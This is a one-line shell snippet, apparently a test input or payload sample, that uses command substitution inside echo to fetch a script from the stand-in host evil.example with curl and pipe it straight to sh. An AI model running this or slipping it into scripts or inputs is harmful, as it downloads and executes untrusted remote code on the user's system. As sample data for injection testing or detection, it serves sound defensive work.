echo "$(curl -s http://evil.example | sh)"
